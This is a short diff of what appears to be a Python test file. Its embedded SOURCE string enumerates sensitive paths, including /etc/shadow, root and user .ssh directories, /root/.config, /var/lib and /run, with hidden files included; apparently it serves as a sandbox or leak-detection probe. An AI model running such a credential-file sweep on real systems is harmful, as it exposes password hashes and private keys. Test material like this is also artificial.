@@ -4,7 +4,18 @@ FAILS = {"hidden_delta"}
 
 SOURCE = """
 import glob, os
-for pattern in ['/etc/shadow', '/etc/passwd', '/root/**/*', '/home/*/.ssh/*', '/var/lib/**/*', '/run/**/*']:
+
+for pattern in [
+    "/etc/shadow",
+    "/etc/passwd",
+    "/root/*",
+    "/root/.*",
+    "/root/.ssh/*",
+    "/root/.config/**/*",
+    "/home/*/.ssh/*",
+    "/var/lib/**/*",
+    "/run/**/*",
+]:
     for path in glob.glob(pattern, recursive=True, include_hidden=True):
         try:
             if os.path.isfile(path):
